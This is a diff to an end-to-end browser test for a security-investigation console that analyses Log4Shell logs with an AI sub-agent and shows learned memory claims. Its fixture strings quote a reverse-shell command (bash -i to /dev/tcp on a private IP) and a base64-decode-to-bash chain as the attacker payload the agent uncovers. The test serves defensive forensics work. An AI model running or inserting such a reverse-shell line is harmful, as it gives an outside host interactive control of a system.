@@ -11,7 +11,7 @@ import { logsRunRegistration } from '../chat/logs-run-registration.js';
 import { createIntelFeeds, createThreatIntel } from '../intel/index.js';
 import { buildLog4ShellDatabase, securityLogsSource } from '../logs/__fixtures__/log4shell-database.js';
 import { defaultRunbooksDir } from '../logs/index.js';
-import { createConsoleServer } from '../server/console/index.js';
+import { createConsoleServer, recordRecalls } from '../server/console/index.js';
 import { type RunningServer, startServer } from '../server/index.js';
 import { openInvestigatorStore } from '../store/index.js';
 
@@ -46,6 +46,8 @@ const decodeSql =
 const padding = ' Evidence row: java → bash → base64 -d → bash -i on UBUNTU5 at 2022-05-11T18:10:22Z.'.repeat(
   40,
 );
+const learned =
+  'log4shell_linux_sysmon.SyslogMessage holds the Sysmon XML; decode {echo,<base64>} payloads with from_base64.';
 const firstAnswer =
   'The JVM started a reverse shell: bash -i >& /dev/tcp/192.168.2.6/443 0>&1, as the tomcat user.';
 const replies: LoopbackReply[] = [
@@ -57,7 +59,7 @@ const replies: LoopbackReply[] = [
   },
   { toolCalls: [{ id: 'q1', name: 'query', arguments: { sql: decodeSql } }] },
   { text: 'java started bash -c {echo,…}; decoded: bash -i >& /dev/tcp/192.168.2.6/443 0>&1' },
-  { text: JSON.stringify({ claims: [], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
+  { text: JSON.stringify({ claims: [learned], helpfulMemoryIds: [], harmfulMemoryIds: [] }) },
   { text: firstAnswer + padding },
   // turn 2: the history is over the threshold of the small window: kioku summarizes, then the answer.
   { text: '## Findings\nA reverse shell to 192.168.2.6:443 was opened from the Tomcat JVM on UBUNTU5.' },
@@ -105,7 +107,13 @@ describe.skipIf(missing !== undefined)('the web console end to end (Chromium, lo
       token: webhookToken,
       chatModel: model,
       tools: () => [
-        logsRunRegistration({ model, file: database.file, runbooksDir: defaultRunbooksDir(), store }),
+        logsRunRegistration({
+          model,
+          file: database.file,
+          runbooksDir: defaultRunbooksDir(),
+          store,
+          onRecall: recordRecalls(store),
+        }),
       ],
       intel: createThreatIntel({ feeds: createIntelFeeds(store) }),
       contextWindow: 3000,
@@ -304,6 +312,16 @@ describe.skipIf(missing !== undefined)('the web console end to end (Chromium, lo
       .getByText(/true positive by admin/)
       .waitFor();
     expect(await page.getByTestId('alert-status').textContent()).toBe('resolved');
+
+    // What the log sub-agent learned shows on the memory page with its score; the analyst deletes it.
+    await page.getByRole('link', { name: 'Memory', exact: true }).click();
+    const claims = page.getByRole('table', { name: 'Claims of logs_run' });
+    await claims.getByText(learned).waitFor();
+    await expect(claims.locator('tbody tr').first().textContent()).resolves.toContain('not recalled yet');
+    await claims.getByRole('button', { name: /Delete claim/ }).click();
+    await page.getByText('Nothing learned yet.').waitFor();
+    await page.getByRole('link', { name: 'Settings', exact: true }).click();
+    await expect(page.getByTestId('intel-AlienVault OTX').textContent()).resolves.toBe('no key');
     expect(pageErrors.filter((error) => !/status of (401|404)/.test(error))).toEqual([]);
   }, 300_000);
 });
